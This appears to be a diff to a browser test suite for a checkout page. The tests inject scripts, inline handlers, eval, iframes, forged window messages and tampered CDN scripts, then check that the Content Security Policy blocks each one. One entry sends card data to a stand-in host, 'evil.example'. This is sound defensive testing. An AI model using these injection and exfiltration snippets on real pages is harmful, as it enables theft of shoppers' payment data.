@@ -6,8 +6,8 @@ import { ada, declinedCard, fillCardForm, payButton } from '../support/browser/b
 import { openCheckout } from '../support/browser/checkout-page.ts'
 import { texts } from '../support/english.ts'
 
-/** What a script inside the page does, and the directive that stops it. `thief` is the attacker's origin. */
-type Attack = readonly [title: string, directive: string, run: (thief: string) => unknown]
+/** What a script inside the page does, and the directive that stops it. `origin` is the attacker's. */
+type Attack = readonly [title: string, directive: string, run: (origin: string) => unknown]
 
 // Every directive by itself: tests/tools/build/security-headers.test.ts.
 const intrusions: readonly Attack[] = [
@@ -16,7 +16,7 @@ const intrusions: readonly Attack[] = [
     'script-src-elem',
     () => {
       const script = document.createElement('script')
-      script.textContent = 'window.taken = true'
+      script.textContent = 'window.compromised = true'
       document.body.append(script)
     },
   ],
@@ -25,11 +25,11 @@ const intrusions: readonly Attack[] = [
     'script-src-attr',
     () => {
       const box = document.createElement('div')
-      box.innerHTML = '<img src="/favicon.png" onload="window.taken = true">'
+      box.innerHTML = '<img src="/favicon.png" onload="window.compromised = true">'
       document.body.append(box)
     },
   ],
-  ['eval, out of a timer', 'script-src', () => setTimeout('window.taken = true')],
+  ['eval, out of a timer', 'script-src', () => setTimeout('window.compromised = true')],
   [
     'another base for every address',
     'base-uri',
@@ -40,7 +40,7 @@ const intrusions: readonly Attack[] = [
     'frame-src',
     (src) => document.body.append(Object.assign(document.createElement('iframe'), { src })),
   ],
-  ['a call with card data', 'connect-src', (stranger) => fetch(`${stranger}/?card=4242`)],
+  ['a call with card data', 'connect-src', (origin) => fetch(`${origin}/?card=4242`)],
 ]
 
 /** The directive of the next violation: the browser logs them too, but only the event names it. */
@@ -56,7 +56,7 @@ const violation = (page: Page) =>
       ),
   )
 
-const isTaken = (page: Page) => page.evaluate(() => Reflect.has(window, 'taken'))
+const isCompromised = (page: Page) => page.evaluate(() => Reflect.has(window, 'compromised'))
 
 test('G2: the policy blocks an injected script, handler, frame or call', async () => {
   const { page, seesTabs, expectConsole } = await openCheckout('/card')
@@ -64,10 +64,10 @@ test('G2: the policy blocks an injected script, handler, frame or call', async (
   await seesTabs()
   for (const [title, directive, run] of intrusions) {
     const stopped = violation(page)
-    await page.evaluate(run, 'https://thief.example').catch(() => {})
+    await page.evaluate(run, 'https://evil.example').catch(() => {})
     expect(await stopped, title).toBe(`${directive} enforce`)
   }
-  expect(await isTaken(page)).toBe(false)
+  expect(await isCompromised(page)).toBe(false)
 })
 
 test('G3: the page ignores messages from other windows', async () => {
@@ -87,7 +87,7 @@ test('G3: the page ignores messages from other windows', async () => {
   await page.getByRole('button', { name: 'Pay with Fake Wallet' }).waitFor()
   const before = await page.locator('body').innerText()
   await page.evaluate(async () => {
-    const shapes = [null, 'paid', 4, { type: 'success' }, { redirect_url: 'https://thief.example' }]
+    const shapes = [null, 'paid', 4, { type: 'success' }, { redirect_url: 'https://evil.example' }]
     for (const shape of shapes) window.postMessage(shape, '*')
     await new Promise((later) => setTimeout(later))
   })
@@ -141,14 +141,14 @@ test.each([
   for (const line of ['integrity', ...lines]) checkout.expectConsole('error', line)
   await checkout.sees(texts.lostChunk)
   expect(await checkout.page.getByText('could not be loaded').count()).toBe(1)
-  expect(await isTaken(checkout.page)).toBe(false)
+  expect(await isCompromised(checkout.page)).toBe(false)
 })
 
 /** Imitates a compromised CDN that adds a line to a script. */
 async function tamperWith(page: Page, address: string): Promise<void> {
   const script = await readFile(join(inject('dist'), address), 'utf8')
   // With any query, because a retry adds one.
-  const body = `window.taken = true;${script}`
+  const body = `window.compromised = true;${script}`
   await page.route(`**${address}*`, (route) =>
     route.fulfill({ contentType: 'application/javascript', body }),
   )
@@ -160,12 +160,12 @@ test('a changed inline script is blocked, and the app works without it', async (
       page.route(/^http:\/\/127[^/]*\/card$/, async (route) => {
         const response = await route.fetch()
         const html = await response.text()
-        const body = html.replace('<script>"use strict";', '<script>window.taken = true;')
+        const body = html.replace('<script>"use strict";', '<script>window.compromised = true;')
         expect(body).not.toBe(html)
         await route.fulfill({ response, body })
       }),
   })
   checkout.expectConsole('error', /Content Security Policy|^The policy of the page/)
   await checkout.seesTabs()
-  expect(await isTaken(checkout.page)).toBe(false)
+  expect(await isCompromised(checkout.page)).toBe(false)
 })
